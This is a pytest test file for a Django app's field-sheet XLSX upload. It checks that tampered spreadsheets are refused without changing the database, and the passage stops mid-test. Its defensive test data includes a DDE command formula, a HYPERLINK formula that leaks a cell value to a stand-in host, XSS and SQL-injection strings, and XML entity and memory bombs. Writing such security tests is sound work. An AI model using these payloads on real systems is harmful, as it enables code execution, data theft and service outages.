"""Hostile field-sheet uploads (issue 6): each gets a clear message and leaves the database unchanged.

A field sheet is the XLSX a recording team downloads for a visit, fills in offline and uploads back.
The cases here are built from a real downloaded sheet, edited in memory with openpyxl or by
rewriting its XML, so no binary is committed. Every case checks the Indonesian message the user
sees (naming the row and column when it is about one row) and that no outcome, no history entry
and no committed upload appeared. A file that cannot be used is kept as one ``failed`` upload
(who tried what, when) by the life cycle in docs/design; row problems are listed on the preview and
those rows are skipped when the upload is confirmed.

See also tests/test_hostile_inputs.py (student lists, and the first field-sheet cases: wrong type,
empty file, zip bomb).
"""

from __future__ import annotations

import csv
import datetime
import html
import io
import re
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from pghistory.models import Events

from recordings import fieldsheet, services
from recordings.fieldsheet import COLUMNS, META_TITLE, ROSTER_TITLE, FieldSheetUnreadable, read_field_sheet
from recordings.models import FieldSheetUpload, Recording, RecordingAction, Visit
from recordings.services import field_sheets
from schools.importing import synthetic
from schools.models import Student
from tests.factories import StudentFactory, visit_with_students
from tests.faults import Fault, Killed

pytestmark = pytest.mark.django_db

Outcome = Recording.Outcome
Status = FieldSheetUpload.Status
HEADER_ROW = 4
COL = {key: index for index, (key, _h, _w) in enumerate(COLUMNS, start=1)}
LETTER = {key: chr(ord("A") + index - 1) for key, index in COL.items()}
UNREADABLE = "tidak bisa dibaca sebagai XLSX"
NOT_A_SHEET = "Ini bukan lembar lapangan aplikasi"


@pytest.fixture(autouse=True)
def media_root(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"


@pytest.fixture
def visit_and_students(operator):
    """A visit in progress with four students; one already has an outcome, so "unchanged" means something."""
    visit, students = visit_with_students(students=4)
    services.recording_apply(
        visit=visit,
        student=students[3],
        outcome=Outcome.ABSENT,
        by=operator,
        tapped_at=timezone.now() - datetime.timedelta(minutes=10),
    )
    return visit, students


@pytest.fixture
def sheet(client, operator, visit_and_students) -> bytes:
    client.force_login(operator)
    visit, _students = visit_and_students
    response = client.get(reverse("field_sheet_download", args=[visit.pk]))
    assert response.status_code == 200
    return response.content


def snapshot() -> dict:
    return {
        "recordings": sorted(Recording.objects.values_list("pk", "student_id", "outcome", "reason", "recorded_at")),
        "actions": RecordingAction.objects.count(),
        "committed": FieldSheetUpload.objects.filter(status=Status.COMMITTED).count(),
        "events": Events.objects.count(),
        "visits": sorted(Visit.objects.values_list("pk", "status", "finished_at")),
        "students": sorted(Student.objects.values_list("pk", "school_id", "name", "is_active")),
    }


def post(client, visit, data: bytes, name: str = "lembar.xlsx"):
    return client.post(
        reverse("field_sheet_upload", args=[visit.pk]), {"file": SimpleUploadedFile(name, data)}, follow=True
    )


def edited(data: bytes, change) -> bytes:
    """The sheet after ``change(ws, row_of)`` ran on its roster, as a spreadsheet program would save it."""
    wb = load_workbook(io.BytesIO(data))
    ws = wb[ROSTER_TITLE]
    rows = {ws.cell(row=r, column=COL["row_id"]).value: r for r in range(HEADER_ROW + 1, ws.max_row + 1)}
    change(ws, rows.__getitem__)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def filled(data: bytes, values: dict[str, dict[str, object]]) -> bytes:
    """{row id: {column key: value}}; a value starting with '=' becomes a formula, as typed in Excel."""

    def change(ws, row_of):
        for row_id, cells in values.items():
            for key, value in cells.items():
                ws.cell(row=row_of(row_id), column=COL[key]).value = value

    return edited(data, change)


def with_text(data: bytes, values: dict[str, dict[str, str]]) -> bytes:
    """Like ``filled`` but every value is a text cell, even one starting with '=' (an apostrophe in Excel)."""

    def change(ws, row_of):
        for row_id, cells in values.items():
            for key, value in cells.items():
                cell = ws.cell(row=row_of(row_id), column=COL[key])
                cell.value = value
                cell.data_type = "s"

    return edited(data, change)


def rewrite_part(data: bytes, part: str, change) -> bytes:
    """The same XLSX with one part's bytes passed through ``change`` (for what openpyxl refuses to write)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            content = source.read(info.filename)
            archive.writestr(info.filename, change(content) if info.filename == part else content)
    return out.getvalue()


ROSTER_PART = "xl/worksheets/sheet1.xml"


def set_cell_xml(data: bytes, ref: str, cell_xml: bytes) -> bytes:
    """Replace the XML of one roster cell (the cell must exist, e.g. filled with a placeholder first)."""

    def change(xml: bytes) -> bytes:
        pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
        assert pattern.search(xml), ref
        return pattern.sub(lambda _m: cell_xml, xml, count=1)

    return rewrite_part(data, ROSTER_PART, change)


def assert_refused(client, visit, data: bytes, message: str, *, name: str = "lembar.xlsx") -> FieldSheetUpload:
    """A file that cannot be used: one message, one failed upload record, nothing else changed."""
    before = snapshot()
    failed_before = FieldSheetUpload.objects.filter(status=Status.FAILED).count()
    response = post(client, visit, data, name)
    assert response.status_code == 200
    assert message in html.unescape(response.content.decode()), (name, message)
    assert snapshot() == before
    assert FieldSheetUpload.objects.filter(status=Status.FAILED).count() == failed_before + 1
    assert not FieldSheetUpload.objects.filter(status=Status.PREVIEWED).exists()
    upload = FieldSheetUpload.objects.latest("pk")
    assert message in upload.error
    # A failed upload cannot be confirmed.
    client.post(reverse("field_sheet_confirm", args=[visit.pk, upload.pk]))
    assert snapshot() == before
    upload.refresh_from_db()
    assert upload.status == Status.FAILED
    return upload


def preview(client, visit, data: bytes) -> tuple[FieldSheetUpload, str]:
    """Upload a readable sheet: it is previewed (nothing recorded yet); return it and the preview page."""
    before = snapshot()
    response = post(client, visit, data)
    assert response.status_code == 200
    upload = FieldSheetUpload.objects.latest("pk")
    assert upload.status == Status.PREVIEWED, upload.error
    assert snapshot() == before
    return upload, response.content.decode()


def error_row(page: str, line: int) -> str:
    """The HTML of the preview's problem-table row for a sheet line (its first cell is the line number),
    apostrophes unescaped (everything else stays escaped)."""
    for row in re.findall(r'<tr class="table-danger">(.*?)</tr>', page, re.S):
        if row.startswith((f"<td>{line}</td>", f"<td>{line:,}</td>".replace(",", "."))):
            return row.replace("&#x27;", "'")
    raise AssertionError(f"no problem row for line {line}")


def confirm_changes_nothing(client, visit, upload) -> None:
    """Confirming the upload records nothing: every filled row had a problem and is skipped."""
    before = snapshot()
    problems = {r["line"]: r["errors"] for r in upload.rows}
    client.post(reverse("field_sheet_confirm", args=[visit.pk, upload.pk]))
    upload.refresh_from_db()
    assert upload.status == Status.COMMITTED and upload.rows_applied == 0
    # Judged again on confirming: the same problems, not each one twice.
    assert {r["line"]: r["errors"] for r in upload.rows} == problems
    after = snapshot()
    assert after.pop("committed") == before.pop("committed") + 1
    assert after == before


def rid(student) -> str:
    return f"PD-{student.pk}"


def line_of(data: bytes, row_id: str) -> int:
    ws = load_workbook(io.BytesIO(data), read_only=True)[ROSTER_TITLE]
    for line, values in enumerate(ws.iter_rows(values_only=True), start=1):
        if values and values[0] == row_id:
            return line
    raise AssertionError(row_id)


# --- files that are not this visit's field sheet ------------------------------------------------


def test_csv_renamed_xlsx_is_refused(client, visit_and_students, sheet):
    visit, students = visit_and_students
    text = f"ID baris,Hasil\r\n{rid(students[0])},Terekam\r\n".encode()
    assert_refused(client, visit, text, UNREADABLE, name="lembar.xlsx")
    assert_refused(client, visit, synthetic.to_csv(synthetic.students(3)), UNREADABLE, name="daftar.xlsx")


def test_other_files_renamed_xlsx_are_refused(client, visit_and_students, sheet):
    visit, _students = visit_and_students
    # A zip that is no workbook, and a workbook cut in half.
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("hello.txt", "halo")
    assert_refused(client, visit, buffer.getvalue(), UNREADABLE)
    assert_refused(client, visit, sheet[: len(sheet) // 2], UNREADABLE)


def test_student_list_xlsx_is_not_a_field_sheet(client, visit_and_students, sheet):
    visit, _students = visit_and_students
    people = synthetic.students(3)
    assert_refused(client, visit, synthetic.template_xlsx(people), NOT_A_SHEET, name="daftar.xlsx")
    assert_refused(client, visit, synthetic.dapodik_xlsx(people), NOT_A_SHEET, name="dapodik.xlsx")
    # An ordinary workbook with the field sheet's tab names but no signed meta sheet.
    wb = Workbook()
    wb.active.title = ROSTER_TITLE
    wb.create_sheet(META_TITLE)
    out = io.BytesIO()
    wb.save(out)
    assert_refused(client, visit, out.getvalue(), "Tanda lembar lapangan rusak")


def test_field_sheet_with_wrong_headers_is_refused(client, visit_and_students, sheet):
    visit, _students = visit_and_students

    def rename(ws, _row_of):
        ws.cell(row=HEADER_ROW, column=COL["outcome"]).value = "Keterangan"

    assert_refused(client, visit, edited(sheet, rename), "Judul kolom 'ID baris' dan 'Hasil' tidak ditemukan")

    def delete_row_ids(ws, _row_of):
        ws.delete_cols(COL["row_id"])

    assert_refused(client, visit, edited(sheet, delete_row_ids), "Judul kolom 'ID baris' dan 'Hasil' tidak ditemukan")


def test_field_sheet_with_a_column_twice_is_refused(client, visit_and_students, sheet):
    """Two 'Hasil' columns (a copied column): which one counts is not guessed."""
    visit, _students = visit_and_students

    def copy_outcome(ws, _row_of):
        extra = len(COLUMNS) + 1
        for row in range(HEADER_ROW, ws.max_row + 1):
            ws.cell(row=row, column=extra).value = ws.cell(row=row, column=COL["outcome"]).value
        ws.cell(row=HEADER_ROW + 1, column=extra).value = "Terekam"

    assert_refused(client, visit, edited(sheet, copy_outcome), "Judul kolom 'Hasil' ada lebih dari satu")


def test_tampered_meta_sheet_is_refused(client, visit_and_students, sheet):
    visit, _students = visit_and_students
    wb = load_workbook(io.BytesIO(sheet))
    meta = wb[META_TITLE]
    token = meta["B4"].value
    meta["B4"].value = token[:-3] + ("AAA" if not token.endswith("AAA") else "BBB")
    out = io.BytesIO()
    wb.save(out)
    assert_refused(client, visit, out.getvalue(), "Tanda lembar lapangan rusak")
    # The visit number in plain sight changed: the signed token decides, not this cell.
    wb = load_workbook(io.BytesIO(sheet))
    wb[META_TITLE]["B2"].value = "999999"
    out = io.BytesIO()
    wb.save(out)
    assert len(preview(client, visit, out.getvalue())[0].rows) == 4  # read and judged, every row


def test_field_sheet_of_another_visit_is_refused(client, operator, visit_and_students, sheet):
    visit, _students = visit_and_students
    elsewhere, others = visit_with_students(students=2)  # another school
    other_sheet = client.get(reverse("field_sheet_download", args=[elsewhere.pk])).content
    other_sheet = filled(other_sheet, {rid(others[0]): {"outcome": "Terekam"}})
    assert_refused(client, visit, other_sheet, "Lembar ini untuk kunjungan lain")
    # Another visit of the same school (the first one was postponed, then planned again).
    earlier, _ = visit_with_students(students=0, school=visit.school, drive=visit.drive)
    earlier_sheet = client.get(reverse("field_sheet_download", args=[earlier.pk])).content
    assert_refused(client, visit, earlier_sheet, "Lembar ini untuk kunjungan lain")


# --- this visit's sheet, edited to do harm ----------------------------------------------------


def test_row_ids_edited_to_students_outside_the_visit(client, visit_and_students, sheet, other_school):
    visit, (a, b, c, d) = visit_and_students
    outsider = StudentFactory(school=other_school, name="Rahasia Sekolah Lain")
    too_young = StudentFactory(school=visit.school, birth_date=timezone.localdate() - datetime.timedelta(days=365 * 10))
    left = StudentFactory(school=visit.school, is_active=False, name="Sudah Pindah")
    tampered = {
        rid(a): {"row_id": rid(outsider), "outcome": "Terekam"},
        rid(b): {"row_id": rid(too_young), "outcome": "Terekam"},
        rid(c): {"row_id": rid(left), "outcome": "Menolak"},
        rid(d): {"row_id": "PD-99999999999", "outcome": "Terekam"},
    }
    data = filled(sheet, tampered)
    upload, page = preview(client, visit, data)
    assert (upload.rows_error, upload.rows_changed) == (4, 0)
    for student in (a, b, c, d):
        assert "tidak ada di daftar kunjungan ini" in error_row(page, line_of(sheet, rid(student)))
    # The name of another school's student is never shown: only what the sheet itself says.
    assert "Rahasia Sekolah Lain" not in page and "Sudah Pindah" not in page
    confirm_changes_nothing(client, visit, upload)


@pytest.mark.parametrize(
    ("row_id", "message"),
    [
        ("PD-1 OR 1=1", "ID baris 'PD-1 OR 1=1' tidak dikenal"),
        ("PD-12345678901234567890", "ID baris 'PD-12345678901234567890' tidak dikenal"),
        ("PD-\u0661\u0662", "tidak dikenal"),  # Arabic-Indic digits are not a row id
        ("PD--1", "tidak dikenal"),
        ("12", "ID baris '12' tidak dikenal"),
    ],
)
def test_malformed_row_ids(client, visit_and_students, sheet, row_id, message):
    visit, (a, *_rest) = visit_and_students
    data = with_text(sheet, {rid(a): {"row_id": row_id, "outcome": "Terekam"}})
    upload, page = preview(client, visit, data)
    assert message in error_row(page, line_of(sheet, rid(a)))
    confirm_changes_nothing(client, visit, upload)


def test_duplicate_rows_for_one_student(client, visit_and_students, sheet):
    """The same student twice, also written differently (leading zero): both rows are refused."""
    visit, (a, b, *_rest) = visit_and_students

    def duplicate(ws, row_of):
        ws.cell(row=row_of(rid(a)), column=COL["outcome"]).value = "Terekam"
        ws.cell(row=row_of(rid(b)), column=COL["outcome"]).value = "Menolak"
        extra = ws.max_row + 1
        ws.cell(row=extra, column=COL["row_id"]).value = rid(a)
        ws.cell(row=extra, column=COL["outcome"]).value = "Tidak hadir"
        ws.cell(row=extra + 1, column=COL["row_id"]).value = f"PD-000{b.pk}"
        ws.cell(row=extra + 1, column=COL["outcome"]).value = "Terekam"

    data = edited(sheet, duplicate)
    upload, page = preview(client, visit, data)
    assert (upload.rows_error, upload.rows_changed) == (4, 0)
    last = HEADER_ROW + 4
    assert f"ID baris ganda (juga di baris {last + 1})" in error_row(page, line_of(data, rid(a)))
    assert f"ID baris ganda (juga di baris {line_of(data, rid(b))})" in error_row(page, last + 2)
    confirm_changes_nothing(client, visit, upload)


@pytest.mark.parametrize("text", ["hacked", "recorded; DROP TABLE", "1", "Terekam!", "0x41", "TRUE"])
def test_unknown_outcomes(client, visit_and_students, sheet, text):
    visit, (a, *_rest) = visit_and_students
    upload, page = preview(client, visit, with_text(sheet, {rid(a): {"outcome": text}}))
    assert f"Hasil '{text}' tidak dikenal; pilih dari daftar." in error_row(page, line_of(sheet, rid(a)))
    confirm_changes_nothing(client, visit, upload)


def test_outcome_codes_and_case_are_accepted_but_the_reason_rule_holds(client, visit_and_students, sheet):
    """The code ("not_eligible") is read like its label; without a reason it is still refused."""
    visit, (a, *_rest) = visit_and_students
    upload, page = preview(client, visit, with_text(sheet, {rid(a): {"outcome": "NOT_ELIGIBLE"}}))
    assert "Tuliskan alasan" in error_row(page, line_of(sheet, rid(a)))
    confirm_changes_nothing(client, visit, upload)


# --- formulas ---------------------------------------------------------------------------------

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://contoh.invalid/?d="&D5,"klik")',
    "=1+1",
    "+1+1",
    "@SUM(1,2)",
]


@pytest.mark.parametrize("column", ["outcome", "reason", "row_id"])
def test_formula_cells_are_refused_never_evaluated(client, visit_and_students, sheet, column):
    """A formula typed in a cell (no cached value, as openpyxl writes it): refused for that row,
    never read as blank (a blank outcome would undo the printed one)."""
    visit, (_a, _b, _c, d) = visit_and_students  # d has an outcome in the app (absent)
    values = {"outcome": "Terekam", "reason": "catatan"}
    values[column] = "=cmd|' /C calc'!A0"
    upload, page = preview(client, visit, filled(sheet, {rid(d): values}))
    assert upload.rows_changed == 0
    row = error_row(page, line_of(sheet, rid(d)))
    header = {k: h for k, h, _w in COLUMNS}[column]
    assert f"Kolom '{header}' berisi rumus" in row
    assert "tulis sebagai teks biasa" in row
    confirm_changes_nothing(client, visit, upload)


def test_formula_with_a_cached_result_is_refused_not_read_as_its_result(client, visit_and_students, sheet):
    """Excel saves a formula with its last result; the result ("klik") is not taken as the note."""
    visit, (a, *_rest) = visit_and_students
    data = filled(sheet, {rid(a): {"outcome": "Menolak", "reason": "PLACEHOLDER"}})
    ref = f"{LETTER['reason']}{line_of(sheet, rid(a))}"
    formula = b'<c r="' + ref.encode() + b'" t="str"><f>HYPERLINK("http://contoh.invalid","klik")</f><v>klik</v></c>'
    data = set_cell_xml(data, ref, formula)
    upload, page = preview(client, visit, data)
    row = error_row(page, line_of(sheet, rid(a)))
    assert "Kolom 'Alasan / catatan' berisi rumus" in row and "klik" not in str(upload.rows[0]["reason"])
    confirm_changes_nothing(client, visit, upload)


def test_formula_looking_text_is_stored_as_text_and_never_exported_as_a_formula(client, visit_and_students, sheet):
    """Text that starts like a formula (typed after an apostrophe in Excel) is a note like any other:
    stored as written, written back to the next field sheet as a text cell, and neutralised with an
    apostrophe in the CSV and XLSX exports."""
    visit, students = visit_and_students
    notes = dict(zip([rid(s) for s in students[:3]], FORMULAS, strict=False))
    data = with_text(sheet, {row_id: {"outcome": "Menolak", "reason": note} for row_id, note in notes.items()})
    upload, _page = preview(client, visit, data)
    assert (upload.rows_changed, upload.rows_error) == (3, 0)
    client.post(reverse("field_sheet_confirm", args=[visit.pk, upload.pk]))
    stored = dict(Recording.objects.filter(visit=visit).values_list("student_id", "reason"))
    assert {f"PD-{pk}": reason for pk, reason in stored.items() if reason} == notes

    fresh = client.get(reverse("field_sheet_download", args=[visit.pk])).content
    ws = load_workbook(io.BytesIO(fresh))[ROSTER_TITLE]
    written = {}
    for row in range(HEADER_ROW + 1, ws.max_row + 1):
        cell = ws.cell(row=row, column=COL["reason"])
        if cell.value:
            assert cell.data_type == "s", cell.value  # a text cell, never a formula
            written[ws.cell(row=row, column=COL["row_id"]).value] = cell.value
    assert written == notes
    with zipfile.ZipFile(io.BytesIO(fresh)) as archive:
        assert b"<f>" not in archive.read(ROSTER_PART)

    export = client.get(reverse("progress_export_visit", kwargs={"visit_id": visit.pk, "fmt": "csv"}))
    body = b"".join(export.streaming_content).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(body), delimiter=";"))[1:]  # after the note line
    reasons = [line[lines[0].index("Alasan")] for line in lines[1:]]
    assert sorted(r for r in reasons if r) == sorted("'" + note for note in notes.values())
    export = client.get(reverse("progress_export_visit", kwargs={"visit_id": visit.pk, "fmt": "xlsx"}))
    ws = load_workbook(io.BytesIO(b"".join(export.streaming_content))).worksheets[0]
    column = [c.value for c in ws[1]].index("Alasan") + 1
    cells = [ws.cell(row=r, column=column) for r in range(2, ws.max_row + 1)]
    assert sorted(c.value for c in cells if c.value) == sorted("'" + note for note in notes.values())
    assert all(c.data_type == "s" for c in cells if c.value)


# --- control characters, markup, length -----------------------------------------------------


def test_nul_bytes_in_the_sheet_xml_are_refused(client, visit_and_students, sheet):
    """XML cannot carry NUL: the file is refused with the unreadable message, not a server error."""
    visit, (a, *_rest) = visit_and_students
    data = filled(sheet, {rid(a): {"outcome": "Menolak", "reason": "PLACEHOLDER"}})
    raw = rewrite_part(data, ROSTER_PART, lambda xml: xml.replace(b"PLACEHOLDER", b"a\x00b"))
    assert_refused(client, visit, raw, UNREADABLE)
    entity = rewrite_part(data, ROSTER_PART, lambda xml: xml.replace(b"PLACEHOLDER", b"a&#0;b"))
    assert_refused(client, visit, entity, UNREADABLE)


def test_entity_expansion_is_refused(client, visit_and_students, sheet):
    """A "billion laughs" entity bomb in the roster XML: the parser's limits stop it."""
    visit, _students = visit_and_students
    lol = b'<!DOCTYPE w [<!ENTITY a "' + b"a" * 1000 + b'">'
    for level in range(1, 8):
        previous = b"a" if level == 1 else b"l%d" % (level - 1)
        lol += b'<!ENTITY l%d "' % level + (b"&" + previous + b";") * 30 + b'">'
    lol += b"]>"

    def bomb(xml: bytes) -> bytes:
        xml = lol + xml
        return xml.replace(
            b"<sheetData>", b'<sheetData><row r="3"><c r="A3" t="inlineStr"><is><t>&l7;</t></is></c></row>'
        )

    start = time.monotonic()
    assert_refused(client, visit, rewrite_part(sheet, ROSTER_PART, bomb), UNREADABLE)
    assert time.monotonic() - start < 10


@pytest.mark.parametrize(
    "text",
    [
        "Tidak bawa KK_x0000_",  # how Excel writes a NUL it was given
        "bunyi_x0007_bel",
        "hapus\x7fini",
        "C1\x85kontrol",
        "arah\u202etukar",  # right-to-left override: makes a note read differently
    ],
)
def test_control_characters_in_notes_are_refused_for_that_row(client, visit_and_students, sheet, text):
    visit, (a, *_rest) = visit_and_students
    data = with_text(sheet, {rid(a): {"outcome": "Menolak", "reason": text}})
    upload, page = preview(client, visit, data)
    assert "Kolom 'Alasan / catatan' berisi karakter kontrol" in error_row(page, line_of(sheet, rid(a)))
    assert upload.rows_changed == 0
    confirm_changes_nothing(client, visit, upload)


def test_line_breaks_and_tabs_in_notes_are_kept(client, visit_and_students, sheet):
    visit, (a, *_rest) = visit_and_students
    note = "Tidak membawa KK\n(akan menyusul)\tbesok"
    upload, _page = preview(client, visit, with_text(sheet, {rid(a): {"outcome": "Menolak", "reason": note}}))
    assert (upload.rows_changed, upload.rows_error) == (1, 0)
    client.post(reverse("field_sheet_confirm", args=[visit.pk, upload.pk]))
    assert Recording.objects.get(student=a).reason == note


HOSTILE_HTML = "<script>alert('xss')</script><img src=x onerror=alert(1)>"


def test_html_and_script_are_escaped_on_the_preview_and_history(client, visit_and_students, sheet):
    visit, (a, b, c, _d) = visit_and_students
    data = with_text(
        sheet,
        {
            rid(a): {"outcome": "Menolak", "reason": HOSTILE_HTML},  # a note: recorded, shown escaped
            rid(b): {"outcome": "<b>Terekam</b><script>alert(2)</script>"},  # not an outcome: the error quotes it
            rid(c): {"row_id": "<script>alert(3)</script>", "outcome": "Terekam", "name": "<i>x</i>"},
        },
    )
    upload, page = preview(client, visit, data)
    assert "<script>alert(" not in page and "<img src=x" not in page and "<b>Terekam" not in page
    assert "&lt;script&gt;alert(&#x27;xss&#x27;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&lt;b&gt;Terekam&lt;/b&gt;&lt;script&gt;alert(2)&lt;/script&gt;" in error_row(page, line_of(sheet, rid(b)))
    assert "&lt;script&gt;alert(3)&lt;/script&gt;" in error_row(page, line_of(sheet, rid(c)))
    assert "&lt;i&gt;x&lt;/i&gt;" in error_row(page, line_of(sheet, rid(c)))
    client.post(reverse("field_sheet_confirm", args=[visit.pk, upload.pk]))
    assert Recording.objects.get(student=a).reason == HOSTILE_HTML
    for url in (
        reverse("field_sheet_preview", args=[visit.pk, upload.pk]),
        reverse("visit_history", args=[visit.pk]),
        reverse("visit_detail", args=[visit.pk]),
    ):
        html = client.get(url).content.decode()
        assert "<script>alert(" not in html and "<img src=x" not in html, url


def test_ten_thousand_character_note_is_refused_for_that_row(client, visit_and_students, sheet):
    visit, (a, b, *_rest) = visit_and_students
    max_length = Recording._meta.get_field("reason").max_length
    data = with_text(
        sheet,
        {
            rid(a): {"outcome": "Menolak", "reason": "A" * 10_000},
            rid(b): {"outcome": "X" * 10_000},
        },
    )
    upload, page = preview(client, visit, data)
    row = error_row(page, line_of(sheet, rid(a)))
    assert f"Kolom 'Alasan / catatan' terlalu panjang: 10000 karakter (maksimal {max_length})." in row
    assert "tidak dikenal" in error_row(page, line_of(sheet, rid(b)))
    # Neither the stored preview nor the page carries the 10,000 characters.
    assert "A" * (max_length + 1) not in page and "X" * 200 not in page
    assert "A" * (max_length + 1) not in str(upload.rows) and "X" * 200 not in str(upload.rows)
    confirm_changes_nothing(client, visit, upload)


def test_a_note_of_exactly_the_maximum_length_is_recorded_whole(client, visit_and_students, sheet):
    visit, (a, *_rest) = visit_and_students
    note = "B" * Recording._meta.get_field("reason").max_length
    upload, _page = preview(client, visit, with_text(sheet, {rid(a): {"outcome": "Menolak", "reason": note}}))
    assert upload.rows_error == 0
    client.post(reverse("field_sheet_confirm", args=[visit.pk, upload.pk]))
    assert Recording.objects.get(student=a).reason == note


def test_nul_in_the_file_name_is_not_a_server_error(client, visit_and_students, sheet):
    visit, _students = visit_and_students
    before = snapshot()
    response = post(client, visit, sheet, name="lem\x00bar.xlsx")
    assert response.status_code == 200
    upload = FieldSheetUpload.objects.latest("pk")
    assert "\x00" not in upload.original_name
    assert snapshot() == before


# --- size ---------------------------------------------------------------------------------------


def test_oversized_file_is_refused_by_the_form(client, visit_and_students, sheet):
    visit, _students = visit_and_students
    data = sheet + b"\0" * (fieldsheet.MAX_UPLOAD_BYTES + 1 - len(sheet))
    before = snapshot()
    uploads = FieldSheetUpload.objects.count()
    response = post(client, visit, data)
    assert "Berkas terlalu besar (maksimal 5 MB)." in response.content.decode()
    assert snapshot() == before and FieldSheetUpload.objects.count() == uploads
    # The reader refuses it too, whoever calls it.
    with pytest.raises(FieldSheetUnreadable, match="terlalu besar"):
        read_field_sheet(data, visit=visit)


def test_too_many_rows_are_refused(client, visit_and_students, sheet):
    visit, (a, *_rest) = visit_and_students

    def many(ws, _row_of):
        for row in range(HEADER_ROW + 5, HEADER_ROW + 5 + fieldsheet.MAX_ROWS):
            ws.cell(row=row, column=COL["row_id"]).value = rid(a)
            ws.cell(row=row, column=COL["outcome"]).value = "Terekam"

    assert_refused(client, visit, edited(sheet, many), "Lembar berisi terlalu banyak baris (maksimal 5000)")


def _rows_xml(first: int, last: int, template: bytes) -> bytes:
    return b"".join(template % {b"r": str(n).encode()} for n in range(first, last + 1))


def _extended(sheet: bytes, rows: bytes, *, last_row: int) -> bytes:
    def change(xml: bytes) -> bytes:
        xml = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD%d"' % last_row, xml)
        return xml.replace(b"</sheetData>", rows + b"</sheetData>")

    return rewrite_part(sheet, ROSTER_PART, change)


def test_a_million_empty_looking_rows_are_not_read_to_the_end(client, visit_and_students, sheet):
    """1,000,000 rows holding only an empty string or a style: the reader stops after MAX_ROWS + 100
    lines (reading them all would take ~40 s), says that lines below were not read, and the filled
    rows above still count."""
    visit, (a, *_rest) = visit_and_students
    data = filled(sheet, {rid(a): {"outcome": "Terekam"}})
    first = HEADER_ROW + 5
    last = 1_000_000
    half = (first + last) // 2
    rows = _rows_xml(first, half, b'<row r="%(r)s"><c r="K%(r)s" t="inlineStr"><is><t></t></is></c></row>')
    rows += _rows_xml(half + 1, last, b'<row r="%(r)s"><c r="K%(r)s" s="0"/></row>')
    big = _extended(data, rows, last_row=last)
    assert len(big) <= fieldsheet.MAX_UPLOAD_BYTES
    tracemalloc.start()
    start = time.monotonic()
    try:
        upload, page = preview(client, visit, big)
        elapsed = time.monotonic() - start
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert elapsed < 15, elapsed
    assert peak < 64 * 1024 * 1024, peak
    assert upload.rows_changed == 1
    bound = fieldsheet.MAX_ROWS + 100
    assert f"Baris di bawah baris ke-{bound:,}".replace(",", ".") in page or f"Baris di bawah baris ke-{bound}" in page


def test_a_row_with_a_million_cells_is_refused_quickly(client, visit_and_students, sheet):
    """One row of 1,000,000 cells (a 5 MB file) made openpyxl build every cell: ~18 s and ~900 MB."""
    visit, _students = visit_and_students
    from openpyxl.utils import get_column_letter

    cells = b"".join(
        b'<c r="%s9"><v>%d</v></c>' % (get_column_letter(1 + i % 16384).encode(), i) for i in range(1_000_000)
    )
    big = _extended(sheet, b'<row r="9">' + cells + b"</row>", last_row=9)
    assert len(big) <= fieldsheet.MAX_UPLOAD_BYTES
    start = time.monotonic()
    assert_refused(client, visit, big, "Berkas XLSX tidak wajar")
    assert time.monotonic() - start < 10


def test_a_cell_of_seventy_megabytes_is_refused(client, visit_and_students, sheet):
    """One note of 70 MB (mostly one letter: ~25x compression, under the zip-bomb ratio) in a 3 MB
    file: refused from its size before openpyxl would hold it in memory."""
    visit, (a, *_rest) = visit_and_students
    import random

    mostly_a = bytes.maketrans(bytes(range(256)), b"a" * 248 + b"b" * 8)
    text = random.Random(7).randbytes(70 * 1024 * 1024).translate(mostly_a)
    data = filled(sheet, {rid(a): {"outcome": "Menolak", "reason": "PLACEHOLDER"}})
    big = rewrite_part(data, ROSTER_PART, lambda xml: xml.replace(b"PLACEHOLDER", text))
    info = zipfile.ZipFile(io.BytesIO(big)).getinfo(ROSTER_PART)
    assert len(big) <= fieldsheet.MAX_UPLOAD_BYTES and info.file_size / info.compress_size < 200
    assert_refused(client, visit, big, "Berkas XLSX tidak wajar (isinya terlalu besar untuk lembar lapangan)")


SST_TYPE = (
    b'<Override PartName="/xl/sharedStrings.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def test_a_huge_shared_string_table_is_refused(client, visit_and_students, sheet):
    """openpyxl loads the shared strings whole. A table of random letters compresses only ~6x, so it
    passes the zip-bomb ratio, yet unpacks far beyond any field sheet's: refused before it is read."""
    visit, _students = visit_and_students
    import random

    letters = bytes.maketrans(bytes(range(256)), b"ab" * 128)
    noise = random.Random(6).randbytes(20 * 1024 * 1024).translate(letters)
    words = b"".join(b"<si><t>" + noise[i : i + 64] + b"</t></si>" for i in range(0, len(noise), 64))
    sst = b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">' + words + b"</sst>"
    source = zipfile.ZipFile(io.BytesIO(sheet))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            content = source.read(info.filename)
            if info.filename == "[Content_Types].xml":  # registered, so openpyxl would load it
                content = content.replace(b"</Types>", SST_TYPE + b"</Types>")
            archive.writestr(info.filename, content)
        archive.writestr("xl/sharedStrings.xml", sst)
    big = out.getvalue()
    assert len(big) <= fieldsheet.MAX_UPLOAD_BYTES and len(sst) > fieldsheet.MAX_PART_BYTES
    assert_refused(client, visit, big, "Berkas XLSX tidak wajar")


# --- killed halfway -----------------------------------------------------------------------------


def test_commit_killed_on_row_n_saves_nothing_and_the_upload_stays_committable(
    client, operator, visit_and_students, sheet, monkeypatch
):
    """The per-row write (``recording_apply``) dies on the third row: the whole commit rolls back,
    no outcome, action or history entry is left, and the upload is still previewed; once the fault
    is gone the same upload commits whole."""
    visit, (a, b, c, d) = visit_and_students
    data = filled(
